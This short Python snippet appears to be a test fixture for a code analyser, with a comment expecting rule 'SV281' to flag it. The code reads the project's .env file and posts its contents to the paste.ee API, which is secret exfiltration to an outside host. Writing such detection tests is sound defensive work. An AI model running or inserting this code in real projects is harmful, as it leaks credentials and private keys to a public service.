import requests
with open(".env") as fh:  # want "SV281: reads the project's .env and sends it to paste.ee"
    secrets = fh.read()
requests.post("https://paste.ee/api", data={"paste": secrets})
